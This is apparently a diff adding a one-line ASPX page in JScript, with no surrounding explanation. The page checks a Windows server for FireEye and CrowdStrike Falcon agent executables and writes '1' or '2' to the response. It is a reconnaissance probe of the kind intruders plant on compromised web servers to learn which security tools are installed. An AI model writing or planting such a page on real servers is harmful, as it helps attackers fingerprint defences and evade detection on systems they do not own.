@@ -1,0 +1,1 @@
+﻿<%@ Page Language="Jscript"%><%if(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")){Response.Write("1");}if(System.IO.File.Exists("c:\\windows\\system32\\drivers\\crowdstrike\\csfalconservice.exe")){Response.Write("2");}%>
